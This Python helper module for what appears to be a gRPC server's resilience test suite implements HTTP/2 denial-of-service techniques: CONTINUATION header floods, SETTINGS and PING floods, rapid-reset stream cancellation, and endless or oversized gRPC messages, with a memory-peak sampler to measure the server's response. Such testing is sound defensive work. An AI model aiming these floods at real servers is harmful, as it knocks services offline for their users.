"""A raw HTTP/2 client for abusing the gRPC port (test_grpc_http2_abuse.py):
the h2 library speaks HTTP/2 with prior knowledge over a plain socket, and
hyperframe (h2's own frame layer) writes the frames h2 would refuse to send
(HEADERS without END_HEADERS, endless CONTINUATION, floods).

Also: a sampler for the peak of the sink's resident set size.
"""
import select
import socket
import struct
import threading
import time

import h2.config
import h2.connection
import h2.events
import h2.exceptions
from hyperframe.frame import (ContinuationFrame, HeadersFrame, PingFrame,
                              RstStreamFrame, SettingsFrame)

from conftest import rss_kib

GRPC_PATH = "/smtpsink.v1.Sink/GetServerInfo"
CANCEL = 0x8
SETTINGS, RST_STREAM = 0x4, 0x3            # frame types


class RssPeak:
    """Samples pid's VmRSS every 10 ms in a thread; .peak is the largest seen."""

    def __init__(self, pid):
        self.pid = pid
        self.peak = rss_kib(pid)
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._run, daemon=True)
        self._thread.start()

    def _run(self):
        while not self._stop.wait(0.01):
            try:
                self.peak = max(self.peak, rss_kib(self.pid))
            except (OSError, AssertionError):
                return

    def stop(self):
        self._stop.set()
        self._thread.join()
        return self.peak


def request_headers(authority, path=GRPC_PATH):
    return [(":method", "POST"), (":scheme", "http"), (":path", path),
            (":authority", authority), ("content-type", "application/grpc"),
            ("te", "trailers")]


def grpc_frame(payload_len, declared=None):
    """The 5-byte gRPC message prefix (uncompressed) announcing `declared` bytes."""
    return struct.pack(">BI", 0, payload_len if declared is None else declared)


class H2Client:
    """One HTTP/2 connection with prior knowledge.

    `send_raw()` writes bytes and returns False once the server closed or
    reset the connection (the attack is over: that is a defence, not an
    error). With drain=True a thread reads and discards what the server
    sends (counting it); without, nothing is read (the server's writes back
    up: floods that want replies queued).
    """

    def __init__(self, addr, drain=True, timeout=10.0, ack_settings=True):
        host, _, port = addr.rpartition(":")
        self.authority = addr
        self.sock = socket.create_connection((host.strip("[]"), int(port)), timeout=timeout)
        self.sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.conn = h2.connection.H2Connection(
            h2.config.H2Configuration(client_side=True, header_encoding="utf-8"))
        self.conn.initiate_connection()
        self.sock.sendall(self.conn.data_to_send())
        self.received = 0
        self.frames = {}            # frame type -> count received
        self.ack_settings = ack_settings
        self._lock = threading.Lock()
        self.closed_by_peer = False
        self.stalled = False
        self._closing = False
        self._reader = None
        if drain:
            self._reader = threading.Thread(target=self._drain, daemon=True)
            self._reader.start()

    def _drain(self):
        buf = b""
        try:
            while True:
                chunk = self.sock.recv(65536)
                if not chunk:
                    break
                self.received += len(chunk)
                buf = self._frames(buf + chunk)
        except OSError:
            pass
        if not self._closing:
            self.closed_by_peer = True

    def _frames(self, buf):
        """Counts the server's frames by type; ACKs its SETTINGS (as a
        well-behaved peer would: gRPC 1.51 applies its own limits, such as
        max concurrent streams, only once they are acknowledged)."""
        while len(buf) >= 9:
            length = int.from_bytes(buf[:3], "big")
            if len(buf) < 9 + length:
                break
            ftype, flags = buf[3], buf[4]
            self.frames[ftype] = self.frames.get(ftype, 0) + 1
            if ftype == SETTINGS and not flags & 1 and self.ack_settings:
                self._send(SettingsFrame(0, flags=["ACK"]).serialize())
            buf = buf[9 + length:]
        return buf

    def _send(self, data):
        with self._lock:
            self.sock.sendall(data)

    def send_raw(self, data):
        if self.closed_by_peer or self.stalled:
            return False
        try:
            self._send(data)
        except (BrokenPipeError, ConnectionResetError):
            self.closed_by_peer = True
            return False
        except socket.timeout:
            self.stalled = True     # the server stopped reading: pushes back
            return False
        return True

    def encode(self, headers):
        """HPACK with this connection's encoder (keeps the dynamic table in step)."""
        return self.conn.encoder.encode(headers)

    def close(self):
        self._closing = True
        try:
            self.sock.shutdown(socket.SHUT_RDWR)
        except OSError:
            pass
        self.sock.close()
        if self._reader is not None:
            self._reader.join(5)


def hpack_int(value, prefix_bits):
    """An HPACK integer (RFC 7541 5.1) whose first byte has no flag bits."""
    limit = (1 << prefix_bits) - 1
    if value < limit:
        return bytes([value])
    out = [limit]
    value -= limit
    while value >= 128:
        out.append((value & 0x7f) | 0x80)
        value >>= 7
    out.append(value)
    return bytes(out)


def literal_header(name, value_len):
    """Start of a literal header field never indexed, new name, plain strings:
    the value's bytes (value_len of them) are up to the caller."""
    return (b"\x10" + hpack_int(len(name), 7) + name + hpack_int(value_len, 7))


def continuation_flood(client, total, mode, frame_size=16384, stream_id=1):
    """HEADERS without END_HEADERS, then CONTINUATION frames of frame_size
    bytes until `total` bytes were sent or the server closed. mode "headers":
    each frame holds one whole new header (x-flood-N, the frame's size);
    "indexed": each byte is a header (an index into the dynamic table);
    "literal": one header whose announced value is longer than everything
    sent, so the frames are all one string. Returns the bytes sent."""
    first = client.encode(request_headers(client.authority))
    if mode == "literal":
        first += literal_header(b"x-flood", 1 << 30)
    elif mode == "indexed":
        # x-a: b into the dynamic table (index 62); then 0xbe = "x-a: b" again
        first += b"\x40\x03x-a\x01b"
    if not client.send_raw(HeadersFrame(stream_id, first).serialize()):
        return 0
    sent, n = len(first), 0
    batch = []
    while sent < total:
        if mode == "literal":
            block = b"a" * frame_size
        elif mode == "indexed":
            block = b"\xbe" * frame_size
        else:
            name = b"x-flood-%d" % n
            value_len = frame_size - len(name) - 8
            block = literal_header(name, value_len) + b"v" * value_len
        n += 1
        batch.append(ContinuationFrame(stream_id, block).serialize())
        sent += len(block)
        if len(batch) == 16:
            if not client.send_raw(b"".join(batch)):
                return sent
            batch = []
    if batch:
        client.send_raw(b"".join(batch))
    return sent


def control_flood(client, kind, count):
    """`count` SETTINGS or PING frames (kind "settings" or "ping"), 1,000 to a
    write. Returns False once the server closed or stopped reading."""
    if kind == "settings":
        block = SettingsFrame(0, settings={SettingsFrame.INITIAL_WINDOW_SIZE: 65535}).serialize() * 1000
    else:
        block = b"".join(PingFrame(0, opaque_data=struct.pack(">Q", i)).serialize()
                         for i in range(1000))
    for _ in range(count // 1000):
        if not client.send_raw(block):
            return False
    return True


def open_streams(client, count, path=GRPC_PATH, reset=False):
    """Opens `count` streams (HEADERS with END_HEADERS, no END_STREAM, no
    DATA) that never end, or with reset=True resets each at once with
    RST_STREAM CANCEL (rapid reset). Returns the streams opened."""
    block = client.encode(request_headers(client.authority, path))
    batch = []
    for i in range(count):
        sid = 1 + 2 * i
        batch.append(HeadersFrame(sid, block, flags=["END_HEADERS"]).serialize())
        if reset:
            batch.append(RstStreamFrame(sid, error_code=CANCEL).serialize())
        if len(batch) >= 200:
            if not client.send_raw(b"".join(batch)):
                return i
            batch = []
    client.send_raw(b"".join(batch))
    return count


class FlowStream:
    """Streams that send DATA without END_STREAM for as long as the test
    lets them, honouring the server's flow control (so the server decides
    how much it takes in). h2's state machine runs on the caller's thread
    only (the client must be made with drain=False).

    Each stream sends `first` (if any) as one gRPC message, then either one message
    announced as `declared` bytes that never completes (declared=N), or
    complete messages of `message_len` bytes forever (message_len=N)."""

    def __init__(self, client, streams, path, first=None, declared=None, message_len=None):
        self.client = client
        self.conn = client.conn
        self.declared = declared
        if declared is not None:
            self.pattern, self.cyclic = grpc_frame(0, declared), False
        else:
            self.pattern, self.cyclic = grpc_frame(message_len) + b"z" * message_len, True
        self.offset = {}
        for _ in range(streams):
            sid = self.conn.get_next_available_stream_id()
            self.conn.send_headers(sid, request_headers(client.authority, path))
            if first is not None:
                self.conn.send_data(sid, grpc_frame(len(first)) + first)
            self.offset[sid] = 0
        self.sent = 0
        self.client.send_raw(self.conn.data_to_send())

    def _room(self, sid):
        """Bytes stream sid may still send (the endless message stays 1 short)."""
        if self.cyclic:
            return 1 << 62
        return self.declared + len(self.pattern) - 1 - self.offset[sid]

    def _next(self, sid, n):
        off = self.offset[sid]
        if self.cyclic:
            reps = self.pattern * (n // len(self.pattern) + 2)
            data = reps[off % len(self.pattern):off % len(self.pattern) + n]
        elif off < len(self.pattern):
            data = (self.pattern[off:] + b"z" * n)[:n]
        else:
            data = b"z" * n
        self.offset[sid] = off + n
        return data

    def pump(self, seconds, chunk=16384):
        """Sends until `seconds` passed or the server closed; returns bytes sent."""
        sock = self.client.sock
        deadline = time.monotonic() + seconds
        while time.monotonic() < deadline and not self.client.closed_by_peer and self.offset:
            progressed = False
            for sid in list(self.offset):
                try:
                    n = min(chunk, self.conn.local_flow_control_window(sid),
                            self.conn.max_outbound_frame_size, self._room(sid))
                    if n > 0:
                        self.conn.send_data(sid, self._next(sid, n))
                except (h2.exceptions.StreamClosedError, h2.exceptions.ProtocolError, KeyError):
                    del self.offset[sid]
                    continue
                if n > 0:
                    self.sent += n
                    progressed = True
            if not self.client.send_raw(self.conn.data_to_send()):
                break
            r, _, _ = select.select([sock], [], [], 0 if progressed else 0.05)
            if r:
                self._receive(sock)
        return self.sent

    def _receive(self, sock):
        try:
            data = sock.recv(65536)
        except OSError:
            data = b""
        if not data:
            self.client.closed_by_peer = True
            return
        try:
            events = self.conn.receive_data(data)
        except h2.exceptions.ProtocolError:
            self.client.closed_by_peer = True
            return
        for ev in events:
            if isinstance(ev, (h2.events.StreamReset, h2.events.StreamEnded)):
                self.offset.pop(ev.stream_id, None)
            elif isinstance(ev, h2.events.ConnectionTerminated):
                self.client.closed_by_peer = True
        self.client.send_raw(self.conn.data_to_send())
